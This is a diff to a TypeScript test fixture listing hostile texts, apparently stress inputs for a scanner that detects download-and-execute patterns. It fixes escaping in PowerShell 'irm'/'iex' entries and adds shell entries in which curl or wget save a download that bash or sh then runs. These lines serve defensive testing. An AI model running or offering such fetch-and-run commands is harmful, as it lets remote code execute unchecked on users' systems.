@@ -273,17 +273,34 @@ export const HOSTILE_TEXTS: readonly HostileText[] = [
   {
     name: "PowerShell hand-overs in values on every line",
     path: "p/s/run.ps1",
-    make: (size) => `$s = irm y\n${repeated('$t = "x; $s"; $u = \'a\' + $t + "${s}"\n', size)}iex $u\n`,
+    make: (size) => `$s = irm y\n${repeated(`$t = "x; $s"; $u = 'a' + $t + "\${s}"\n`, size)}iex $u\n`,
   },
   {
     name: "a PowerShell value naming many variables",
     path: "p/s/run.ps1",
-    make: (size) => `$s = irm y\n$t = ${repeated("$s ${s} $( [ { ", size)}\niex $t\n`,
+    make: (size) => `$s = irm y\n$t = ${repeated(`$s \${s} $( [ { `, size)}\niex $t\n`,
   },
   {
     name: "PowerShell assignments inside one value",
     path: "p/s/run.ps1",
     make: (size) => `$s = irm y\n$t = "${repeated("$a=$s", size)}"\niex $t\n`,
+  },
+  // Downloads saved to files and run: many saves each run later, one save and a line of many runs, and
+  // one download naming many output files.
+  {
+    name: "saved downloads run on every line",
+    path: "p/s/run.sh",
+    make: (size) => repeated("curl -o x.sh y; bash x.sh; ./x.sh\n", size),
+  },
+  {
+    name: "a saved download and a line of many runs",
+    path: "p/s/run.sh",
+    make: (size) => `wget -qO x y\n${repeated("sh -e x; ", size)}\n`,
+  },
+  {
+    name: "a download naming many output files",
+    path: "p/s/run.sh",
+    make: (size) => `curl ${repeated("-o x ", size)}y\nsh x\n`,
   },
   // Shells' texts read as command lines of their own: evals nested in evals, and a text of many commands.
   {
